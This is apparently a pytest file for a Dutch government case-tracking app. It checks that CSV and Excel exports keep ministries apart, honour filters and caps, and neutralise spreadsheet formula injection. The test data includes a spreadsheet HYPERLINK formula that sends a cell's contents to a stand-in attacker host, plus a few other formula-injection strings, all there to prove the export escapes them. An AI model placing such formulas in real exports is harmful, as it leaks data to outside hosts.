"""Export of the case list as CSV and XLSX: every matching row, Dutch headers, formula
injection neutralised, numbers kept numeric, the same ministry isolation as the list."""

from __future__ import annotations

import csv
import gc
import io
from datetime import date, datetime

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import update
from werkzeug.test import TestResponse

from caseflow.domain.clock import local_today
from caseflow.extensions import db
from caseflow.models import Case, User
from caseflow.services.caselists import export
from caseflow.services.caselists.case_sort import Sort
from caseflow.services.caselists.queries import CaseFilter
from tests.conftest import login
from tests.factories import case_in_state, organisation_id

Users = dict[str, User]
BOM = b"\xef\xbb\xbf"
NASTY = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'


def _get(client: FlaskClient, url: str) -> tuple[TestResponse, bytes]:
    response = client.get(url)
    body = response.get_data()
    response.close()
    return response, body


def _csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body[len(BOM) :].decode("utf-8")), delimiter=";"))


def _xlsx_rows(body: bytes) -> list[list[object]]:
    workbook = load_workbook(io.BytesIO(body), read_only=True)
    try:
        sheet = workbook["Zaken"]
        return [list(row) for row in sheet.iter_rows(values_only=True)]
    finally:
        workbook.close()


def _as_text(value: object, header: str) -> str:
    """How the CSV writes an XLSX value, to compare the two files (openpyxl reads every
    date cell back as a datetime)."""
    if value is None:
        return ""
    if isinstance(value, datetime) and header == "Uiterste datum":
        return value.date().isoformat()
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


@pytest.fixture
def exported(users: Users) -> dict[str, Case]:
    shrink = case_in_state(
        users,
        "omvangswijziging",
        "ingediend",
        title=NASTY,
        change_kind="krimp",
        fte_change=-120,
        current_place="+31 Den Haag",
        unit_name="@kantoor",
    )
    return {
        "nasty": shrink,
        "plain": case_in_state(users, "nieuwe_dienst", "concept", title="Nieuw meldpunt"),
        "dash": case_in_state(users, "masterplan", "in_behandeling", title="-1 verdieping"),
        "ocw": case_in_state(
            users,
            "omvangswijziging",
            "ingediend",
            owner=users["ministerie_ocw"],
            organisation_id=organisation_id("DUO"),
            title="Groei DUO",
        ),
    }


def test_csv_is_utf8_with_bom_semicolons_and_dutch_headers(
    client: FlaskClient, users: Users, exported: dict[str, Case]
) -> None:
    login(client, users["coordinator"])
    response, body = _get(client, "/zaken/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="zaken-{local_today().isoformat()}.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert body.startswith(BOM + b"Kenmerk;Titel;Zaaktype;Status;Ministerie;Organisatie;")
    rows = _csv_rows(body)
    assert rows[0] == list(export.HEADERS)
    assert len(rows) == 1 + 4  # every visible case, newest first
    by_reference = {row[0]: row for row in rows[1:]}
    nasty = by_reference[exported["nasty"].reference]
    column = {name: i for i, name in enumerate(export.HEADERS)}
    assert nasty[column["Titel"]] == "'" + NASTY  # formula neutralised
    assert nasty[column["Huidige plaats"]] == "'+31 Den Haag"
    assert nasty[column["Organisatie"]] == "'@kantoor (IND)"
    assert nasty[column["Fte wijziging"]] == "-120"  # a number stays a number
    assert nasty[column["Fte huidig"]] == "400"
    assert nasty[column["Status"]] == "Ingediend"
    assert nasty[column["Zaaktype"]] == "Wijziging in omvang van een dienst"
    assert nasty[column["Ministerie"]] == "JenV"
    assert nasty[column["Aangemaakt"]].startswith(local_today().isoformat()[:4])
    dash = by_reference[exported["dash"].reference]
    assert dash[column["Titel"]] == "'-1 verdieping"
    assert dash[column["Behandelaar"]] == users["adviseur"].name
    plain = by_reference[exported["plain"].reference]
    assert plain[column["Titel"]] == "Nieuw meldpunt"
    assert plain[column["Fte huidig"]] == ""


def test_xlsx_has_the_same_rows_with_numbers_as_numbers(
    client: FlaskClient, users: Users, exported: dict[str, Case]
) -> None:
    login(client, users["coordinator"])
    _, csv_body = _get(client, "/zaken/export.csv?sort=titel&dir=asc")
    response, body = _get(client, "/zaken/export.xlsx?sort=titel&dir=asc")
    assert response.status_code == 200
    assert response.mimetype == export.XLSX_MIMETYPE
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=zaken-{local_today().isoformat()}.xlsx"
    )
    rows = _xlsx_rows(body)
    assert rows[0] == list(export.HEADERS)
    as_text = [[_as_text(v, h) for v, h in zip(row, export.HEADERS, strict=True)] for row in rows]
    assert as_text == _csv_rows(csv_body)
    column = {name: i for i, name in enumerate(export.HEADERS)}
    nasty = next(r for r in rows if r[0] == exported["nasty"].reference)
    assert nasty[column["Titel"]] == "'" + NASTY  # text, not a formula
    assert nasty[column["Fte wijziging"]] == -120
    assert isinstance(nasty[column["Gewijzigd"]], datetime)
    titles = [row[column["Titel"]] for row in rows[1:]]
    assert titles == sorted(titles)  # the list's sort order applies


def test_exports_keep_ministries_apart_and_apply_filters(
    client: FlaskClient, users: Users, exported: dict[str, Case]
) -> None:
    jenv = {exported[k].reference for k in ("nasty", "plain", "dash")}
    login(client, users["ministerie_ocw"])
    for url in ("/zaken/export.csv", "/zaken/export.csv?q=" + exported["nasty"].reference):
        references = {row[0] for row in _csv_rows(_get(client, url)[1])[1:]}
        assert references <= {exported["ocw"].reference}, url
    _, body = _get(client, "/zaken/export.xlsx")
    assert [row[0] for row in _xlsx_rows(body)[1:]] == [exported["ocw"].reference]
    login(client, users["ministerie"])
    references = {row[0] for row in _csv_rows(_get(client, "/zaken/export.csv")[1])[1:]}
    assert references == jenv
    login(client, users["coordinator"])
    _, body = _get(client, "/zaken/export.csv?type=omvangswijziging&q=groei")
    assert [row[0] for row in _csv_rows(body)[1:]] == [exported["ocw"].reference]
    _, body = _get(client, "/zaken/export.csv?wachtrij=mijn_zaken")
    assert _csv_rows(body)[1:] == []  # nothing is assigned to the coordinator
    login(client, users["adviseur"])
    _, body = _get(client, "/zaken/export.csv?wachtrij=mijn_zaken")
    assert [row[0] for row in _csv_rows(body)[1:]] == [exported["dash"].reference]
    # Need-to-know: the administrator has no case lists at all, so no export either.
    login(client, users["beheerder"])
    response, _ = _get(client, "/zaken/export.csv")
    assert response.status_code == 403


def test_list_page_links_to_exports_with_its_filters(
    client: FlaskClient, users: Users, exported: dict[str, Case]
) -> None:
    login(client, users["coordinator"])
    page = client.get("/zaken?q=groei&sort=titel&dir=desc&na=abc").get_data(as_text=True)
    assert "Exporteer als CSV" in page and "Exporteer als Excel (XLSX)" in page
    assert 'href="/zaken/export.csv?q=groei&amp;sort=titel&amp;dir=desc"' in page
    assert 'href="/zaken/export.xlsx?q=groei&amp;sort=titel&amp;dir=desc"' in page


def test_export_is_capped_with_a_dutch_note(
    client: FlaskClient, users: Users, exported: dict[str, Case], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "MAX_ROWS", 2)
    login(client, users["coordinator"])
    rows = _csv_rows(_get(client, "/zaken/export.csv")[1])
    assert len(rows) == 1 + 2 + 1
    assert rows[-1] == [
        "Let op: deze export is afgekapt na 2 zaken. "
        "Verfijn de filters om de overige zaken te exporteren."
    ]
    sheet = _xlsx_rows(_get(client, "/zaken/export.xlsx")[1])
    assert len(sheet) == 4 and str(sheet[-1][0]).startswith("Let op: deze export is afgekapt")
    # Exactly the cap: complete, no note.
    monkeypatch.setattr(export, "MAX_ROWS", 4)
    rows = _csv_rows(_get(client, "/zaken/export.csv")[1])
    assert len(rows) == 5 and not rows[-1][0].startswith("Let op")


def test_rows_stream_in_list_order(users: Users, exported: dict[str, Case]) -> None:
    for i, case in enumerate(exported.values()):
        db.session.execute(
            update(Case).where(Case.id == case.id).values(updated_at=datetime(2026, 1, 1 + i))
        )
    db.session.commit()
    found = list(export.rows(users["coordinator"], CaseFilter(), Sort("gewijzigd", False)))
    assert [row[0] for row in found if isinstance(row, tuple)] == [
        c.reference for c in exported.values()
    ]
    capped = list(export.rows(users["coordinator"], CaseFilter(), Sort(), limit=1))
    assert isinstance(capped[-1], export.Truncated) and len(capped) == 2


def test_neutralise() -> None:
    for text in ("=1+1", "+31", "-5", "@SUM(A1)", "\tx", "\rx"):
        assert export.neutralise(text) == "'" + text
    for text in ("", "Groei", "1-2", "a=b", "'al"):
        assert export.neutralise(text) == text


def test_xlsx_export_closes_its_temporary_file(
    client: FlaskClient, users: Users, exported: dict[str, Case]
) -> None:
    login(client, users["coordinator"])
    for _ in range(3):
        _get(client, "/zaken/export.xlsx")
    gc.collect()  # an unclosed temporary file would warn here (warnings are errors)


def test_anonymous_export_is_refused(client: FlaskClient) -> None:
    for url in ("/zaken/export.csv", "/zaken/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 302 and "/inloggen" in response.headers["Location"]
